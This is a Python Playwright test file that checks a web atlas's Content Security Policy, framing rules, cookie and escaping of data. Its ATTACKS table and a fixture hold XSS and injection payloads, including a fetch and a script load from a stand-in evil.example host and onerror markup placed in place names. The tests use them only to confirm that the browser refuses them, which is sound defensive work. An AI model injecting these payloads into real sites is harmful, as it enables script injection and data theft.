"""What a browser refuses to do for a page of the atlas, and that nothing the page needs is."""

import shutil
from collections.abc import Iterator

import pytest
from playwright.sync_api import ConsoleMessage, Page, expect

from atlas.model.pages import PAGES
from tests.browser.conftest import Answer, Reader, Readers, Visit, serving
from tests.browser.steps import box_of
from tests.conftest import Folder, at_night
from tests.hosting.servers import ROOT, Replica, running

VIEWS = {"place": "&place=deyang", "share": "&of=sectors", "sectors": "&sector=rail-transit"}
# Any canvas with two colours on it is a map that was drawn.
DRAWN = """() => {
  const canvas = document.querySelector(".map.live canvas")
  if (!canvas) return false
  const small = new OffscreenCanvas(60, 40).getContext("2d")
  small.drawImage(canvas, 0, 0, 60, 40)
  const { data } = small.getImageData(0, 0, 60, 40)
  return new Set(new Uint32Array(data.buffer)).size > 20
}"""
VIOLATED = """() => {
  window.violations = []
  document.addEventListener("securitypolicyviolation", (event) =>
    window.violations.push(`${event.effectiveDirective} ${event.blockedURI}`))
}"""


class Watched:
    """A reader whose browser tells of everything the policy keeps it from."""

    def __init__(self, reader: Reader) -> None:
        self.reader = reader
        self.refusals: list[str] = []
        reader.page.add_init_script(f"({VIOLATED})()")
        reader.page.on("console", self._listen)

    def _listen(self, message: ConsoleMessage) -> None:
        if "Content Security Policy" in message.text or "Permissions-Policy" in message.text:
            self.refusals.append(message.text)

    def assert_at_peace(self) -> None:
        frames = self.reader.page.frames
        violations = [violation for frame in frames for violation in frame.evaluate(VIOLATIONS)]
        assert [*self.refusals, *violations, *self.reader.errors] == []
        assert self.reader.strayed == []


VIOLATIONS = "window.violations ?? []"


@pytest.fixture
def watched(reader: Readers) -> Watched:
    return Watched(reader())


def _settled(page: Page) -> None:
    page.wait_for_load_state("networkidle")


@pytest.mark.parametrize("page", at_night(PAGES, ["share"]))
def test_every_page_gets_all_it_needs_from_its_own_site(watched: Watched, page: str) -> None:
    shown = watched.reader.open(f"{page}?lang=zh{VIEWS.get(page, '')}")
    if page in ("", "place", "places"):
        shown.wait_for_function(DRAWN)
    _settled(shown)
    watched.assert_at_peace()


@pytest.mark.parametrize("path", at_night(["brief", "map.svg"], ["brief"]))
def test_what_is_opened_on_its_own_needs_nothing_more(watched: Watched, path: str) -> None:
    watched.reader.page.goto(f"{watched.reader.url}/{path}?lang=en&place=deyang")
    _settled(watched.reader.page)
    watched.assert_at_peace()


@pytest.fixture(scope="module")
def reserved(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Replica]:
    """A server whose host lets no other site show it, and whose data attack its readers.

    Every place's name is markup that would run a script.
    """
    folder = Folder(shutil.copytree(ROOT / "data", tmp_path_factory.mktemp("attack") / "data"))
    attack = {"name_en": "<img src=x onerror=hurt()>", "short_en": "@@=hurt()"}
    folder.write("places", [row | attack for row in folder.rows("places")])
    environment = {"ATLAS_FRAME_ANCESTORS": "self", "ATLAS_DATA": str(folder.path)}
    replica = Replica(folder.path.parent, **environment)
    with running(replica.ready()):
        yield replica


@pytest.fixture
def host() -> Iterator[str]:
    """Another site, which shows an address in a frame: in a sandbox, or isolated itself."""
    isolation = {
        "cross-origin-embedder-policy": "require-corp",
        "cross-origin-opener-policy": "same-origin",
    }

    def answer(path: str) -> Answer:
        manner, _, shown = path.partition("?")
        sandbox = 'sandbox="allow-scripts"' if "sandboxed" in manner else ""
        page = f'<iframe src="{shown}/?lang=en&embed=true" {sandbox} height=700></iframe>'
        return page.encode(), {
            "content-type": "text/html",
            **(isolation if "isolated" in manner else {}),
        }

    with serving(answer) as port:
        yield f"http://localhost:{port}"


def _visit(reader: Reader, host: str, manner: str = "open") -> Page:
    reader.sites.append(host)
    reader.page.goto(f"{host}/{manner}?{reader.url}")
    return reader.page


def test_another_site_may_show_the_map_in_a_frame_and_scrolls_over_it(
    watched: Watched, host: str
) -> None:
    page = _visit(watched.reader, host)
    expect(page.frame_locator("iframe").locator("#credits")).to_contain_text("OpenStreetMap")
    page.frames[1].wait_for_function(DRAWN)
    watched.assert_at_peace()
    page.set_viewport_size({"width": 700, "height": 600})
    page.evaluate("document.body.style.height = '4000px'")
    page.locator("iframe").evaluate("(frame) => { frame.width = 640 }")
    page.frame_locator("iframe").locator(".map.live").hover()
    for _ in range(10):
        page.mouse.wheel(0, 300)
        page.wait_for_timeout(50)
    assert page.evaluate("scrollY") > 300


@pytest.mark.parametrize(
    "manner",
    at_night(["sandboxed", "isolated", "sandboxed-isolated"], ["sandboxed-isolated"]),
)
def test_a_frame_that_is_cut_off_is_read_and_clicked(
    reader: Readers, host: str, manner: str
) -> None:
    watched = Watched(reader())
    page = _visit(watched.reader, host, manner)
    inside = page.frame_locator("iframe")
    expect(inside.locator(".sentence")).to_contain_text("14 of 14")
    page.frames[1].wait_for_function(DRAWN)
    inside.locator("#card").get_by_role("link", name="Ziyang", exact=True).first.click()
    expect(inside.locator("#card h2").first).to_contain_text("Ziyang")
    assert page.frames[1].evaluate("location.search") == "?lang=en&place=ziyang&embed=true"
    assert watched.reader.errors == []


@pytest.mark.night  # By day, the header is enough.
def test_another_site_may_not_where_the_host_says_so(
    reader: Readers, reserved: Replica, host: str
) -> None:
    watched = Watched(reader(reserved.url))
    page = _visit(watched.reader, host)
    _settled(page)
    assert page.frame_locator("iframe").locator("#credits").count() == 0
    assert "frame-ancestors 'self'" in "".join(watched.refusals)


ATTACKS = {
    "document.body.append(Object.assign(document.createElement('script'),"
    " { textContent: 'window.hurt = true' }))": "script-src-elem inline",
    "document.body.append(Object.assign(document.createElement('script'),"
    " { src: 'https://evil.example/a.js' }))": "script-src-elem https://evil.example/a.js",
    "document.body.insertAdjacentHTML('beforeend', '<img src=\"data:,\" onerror=\"hurt=1\">')": (
        "script-src-attr inline"
    ),
    "document.body.append(Object.assign(new Image(), { src: 'https://evil.example/dot.png' }))": (
        "img-src https://evil.example/dot.png"
    ),
    "fetch('https://evil.example/take', { mode: 'no-cors' }).catch(() => {})": (
        "connect-src https://evil.example/take"
    ),
    "setTimeout(() => eval('window.hurt = true'))": "script-src eval",
    "document.body.append(Object.assign(document.createElement('iframe'),"
    " { src: 'https://evil.example/' }))": "frame-src https://evil.example",
}


def test_what_is_smuggled_into_a_page_is_refused(watched: Watched) -> None:
    page = watched.reader.open("evidence?lang=en")
    for attack, refused in ATTACKS.items():
        page.evaluate(f"() => {{ window.violations = []; {attack} }}")
        page.wait_for_function("() => window.violations.length > 0")
        (violation,) = page.evaluate(VIOLATIONS)
        assert violation.startswith(refused)
    assert page.evaluate("window.hurt") is None
    assert watched.reader.strayed == []


@pytest.mark.night  # By day, markup in the answers is enough.
def test_a_name_that_is_markup_is_text_in_the_tooltip(reader: Readers, reserved: Replica) -> None:
    watched = Watched(reader(reserved.url))
    page = watched.reader.open("?lang=en")
    page.wait_for_function(DRAWN)
    canvas = box_of(page.locator(".map"))
    tooltip = page.locator(".atlas-tip")
    # Across the south of Sichuan, where a place's land is met sooner or later.
    for step in range(40):
        x = canvas["x"] + canvas["width"] * (0.1 + step / 100)
        page.mouse.move(x, canvas["y"] + canvas["height"] / 2)
        page.wait_for_timeout(100)
        if tooltip.is_visible():
            break
    expect(tooltip).to_contain_text("<img src=x onerror=hurt()>")
    assert page.locator("img[src=x]").count() == 0
    watched.assert_at_peace()


def test_the_only_cookie_is_streamlits_token_for_this_site(go_to: Visit) -> None:
    page = go_to("?lang=en")
    (cookie,) = page.context.cookies()
    assert (cookie["name"], cookie["sameSite"]) == ("_streamlit_xsrf", "Lax")
